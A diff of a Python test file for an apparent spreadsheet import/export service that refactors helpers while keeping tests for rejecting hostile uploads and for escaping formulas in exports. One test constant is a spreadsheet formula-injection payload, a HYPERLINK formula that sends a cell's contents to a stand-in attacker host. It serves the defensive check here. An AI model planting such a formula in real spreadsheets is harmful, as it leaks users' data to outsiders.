@@ -5,44 +5,24 @@ import io
 import re
 import threading
 import zipfile
-from datetime import datetime, timedelta, timezone
+from datetime import datetime
 
 import pytest
 from docx import Document
-from openpyxl import load_workbook
-from sqlalchemy import func, select, update
+from sqlalchemy import update
 
 from liaison.imports import reader
 from liaison.models import Constituent, Member
-from liaison.models.account import Role
 from liaison.tenancy.scope import TenantScope, apply_scope
-from tests.builders import build_roster, make_contact, make_member, make_pairing
+from tests.builders import BEIJING, auth, make_contact, make_member, make_pairing
 from tests.imports.handmade import row, xlsx
+from tests.readback import count
+from tests.workbooks import read_workbook, upload
 
 EVIL = '=HYPERLINK("http://evil.example/"&K3,"详情")'
 MEMBERS = row(1, "姓名*", "界别*", "工作单位", "联系电话")
 PAIRINGS = row(1, "委员姓名*", "联系对象姓名*", "类别*")
 CONTACTS = row(1, "委员姓名*", "界别群众姓名*", "联系服务时间*", "联系服务方式*")
-
-
-@pytest.fixture
-async def roster(owner, world):
-    return await build_roster(owner, world)
-
-
-def auth(world, tenant, role=Role.office):
-    return {"authorization": f"Bearer {world.token(tenant, role)}"}
-
-
-async def upload(client, path, data, headers):
-    return await client.post(path, files={"data": ("导入.xlsx", data, "application/octet-stream")},
-                             headers=headers)
-
-
-async def members_in(owner, tenant):
-    await apply_scope(owner, TenantScope.only(tenant.id))
-    return await owner.scalar(select(func.count()).select_from(Member)
-                              .where(Member.tenant_id == tenant.id))
 
 
 @pytest.mark.parametrize("path, header", [("/files/imports/members", MEMBERS),
@@ -73,7 +53,8 @@ async def test_hostile_uploads_are_typed_refusals(client, owner, roster, data, s
     assert (response.status_code, response.json()["code"]) == (status, code)
     if code == "NOT_XLSX":
         assert response.json()["message"] == "无法读取该 Excel 文件，请确认是 .xlsx 格式"
-    assert (await members_in(owner, w.county_a), await members_in(owner, w.county_b)) == (3, 1)
+    assert (await count(owner, Member, w.county_a),
+            await count(owner, Member, w.county_b)) == (3, 1)
 
 
 async def test_a_control_character_in_an_upload_is_a_row_error(client, owner, roster):
@@ -84,7 +65,7 @@ async def test_a_control_character_in_an_upload_is_a_row_error(client, owner, ro
     assert (response.status_code, response.json()["errors"]) == (422, [
         {"row": 2, "column": "工作单位", "message": "含有不允许的控制字符"},
         {"row": 3, "column": "工作单位", "message": "只能填写一行，不能含换行符或制表符"}])
-    assert await members_in(owner, w.county_a) == 3
+    assert await count(owner, Member, w.county_a) == 3
 
 
 def no_formula(data: bytes) -> bool:
@@ -104,13 +85,13 @@ async def test_exports_of_hostile_stored_text(client, owner, roster):
         Constituent.tenant_id == a.id, Constituent.id == pairing.constituent_id,
     ).values(work_unit=EVIL, post="主任\u0001"))
     await owner.commit()
-    contact = await make_contact(owner, pairing, datetime(2025, 3, 10, 10, tzinfo=timezone(
-        timedelta(hours=8))), opinions="建议\u0001修路")
+    contact = await make_contact(owner, pairing, datetime(2025, 3, 10, 10, tzinfo=BEIJING),
+                                 opinions="建议\u0001修路")
     office = auth(w, a)
 
     response = await client.get("/files/exports/members.xlsx", headers=office)
     assert response.status_code == 200 and no_formula(response.content)
-    rows = load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=3,
+    rows = read_workbook(response.content).active.iter_rows(min_row=3,
                                                                         values_only=True)
     assert [(r[8], r[9]) for r in rows if r[1] == "钱七"] == [("'" + EVIL, "职员")]
 
@@ -120,7 +101,7 @@ async def test_exports_of_hostile_stored_text(client, owner, roster):
     assert cells == ["1", "孙群众", "群众", EVIL + " 主任", "13900001111"]
     response = await client.get(f"/files/forms/form1.xlsx?member={qian.id}", headers=office)
     assert response.status_code == 200 and no_formula(response.content)
-    sheet = load_workbook(io.BytesIO(response.content))["钱七"]
+    sheet = read_workbook(response.content)["钱七"]
     assert [c.value for c in sheet[5]] == [1, "孙群众", "群众", "'" + EVIL + " 主任",
                                            "13900001111"]
 
@@ -131,5 +112,5 @@ async def test_exports_of_hostile_stored_text(client, owner, roster):
                                                                           "建议修路")
     response = await client.get(f"/files/forms/form2.xlsx?contact={contact.id}", headers=office)
     assert response.status_code == 200 and no_formula(response.content)
-    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    sheet = read_workbook(response.content).worksheets[0]
     assert (sheet["B6"].value, sheet["B10"].value) == ("'" + EVIL + " 主任", "建议修路")
